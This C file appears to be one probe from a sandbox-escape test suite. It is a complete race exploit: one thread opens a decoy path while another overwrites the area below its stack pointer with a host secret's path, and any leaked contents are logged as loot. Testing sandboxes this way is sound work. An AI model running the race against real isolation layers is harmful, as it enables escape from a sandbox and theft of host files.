// Class 3: a sandbox that writes its translated copy of a path into the guest's own memory (below
// the stack pointer) lets another thread of the guest rewrite that copy before the kernel reads
// it. Thread A opens an in-root path in a loop on a stack we own; thread B keeps filling the
// area below A's stack pointer with "////...<host path of the canary>".
#include "probe.h"

static char* stack_mem;
static size_t stack_size = 1 << 20;
static volatile uintptr_t a_sp;
static volatile int stop;
static long hits, tries;
static char pattern[8192];
static size_t pattern_len;

static void* scribbler(void* arg) {
  (void)arg;
  while (!a_sp && !stop) {
  }
  uintptr_t sp = a_sp;
  // [sp - 128 - 6144, sp - 128): everything a sandbox could put under the red zone.
  char* lo = (char*)(sp - 128 - pattern_len);
  if ((char*)lo < stack_mem) return NULL;
  while (!stop) memcpy(lo, pattern, pattern_len);
  return NULL;
}

static void* opener(void* arg) {
  (void)arg;
  uintptr_t sp;
  __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
  a_sp = sp - 64;  // below our own frame's current use
  double end = now_s() + 2.5;
  const char* path = "/tmp/ocib-below-sp-decoy.txt";
  while (now_s() < end && hits < 3) {
    long fd;
    __asm__ volatile("syscall"
                     : "=a"(fd)
                     : "0"((long)SYS_open), "D"(path), "S"((long)O_RDONLY), "d"(0L)
                     : "rcx", "r11", "memory");
    ++tries;
    if (fd < 0) continue;
    char b[256];
    long n = read((int)fd, b, sizeof b);
    close((int)fd);
    if (n > 0 && strncmp(b, "guest", 5) != 0) {
      ++hits;
      p_loot("below-sp open", b, (size_t)n);
    }
  }
  return NULL;
}

int main(void) {
  p_start();
  mkdir("/tmp", 01777);
  int fd = open("/tmp/ocib-below-sp-decoy.txt", O_CREAT | O_WRONLY, 0644);
  if (fd >= 0) {
    ssize_t w = write(fd, "guest\n", 6);
    (void)w;
    close(fd);
  }
  char* host = p_strf("%s/host/secret.txt", T());
  pattern_len = 6144;
  memset(pattern, '/', pattern_len);
  memcpy(pattern + pattern_len - strlen(host) - 1, host, strlen(host) + 1);
  stack_mem = mmap(NULL, stack_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  pthread_attr_t at;
  pthread_attr_init(&at);
  pthread_attr_setstack(&at, stack_mem, stack_size);
  pthread_t a, b;
  pthread_create(&b, NULL, scribbler, NULL);
  pthread_create(&a, &at, opener, NULL);
  pthread_join(a, NULL);
  stop = 1;
  pthread_join(b, NULL);
  p_attemptf(hits ? 0 : -1, "below-sp race: %ld tries, %ld hits", tries, hits);
  p_control(tries > 10, "the opener ran", "%ld tries", tries);
  p_end();
}
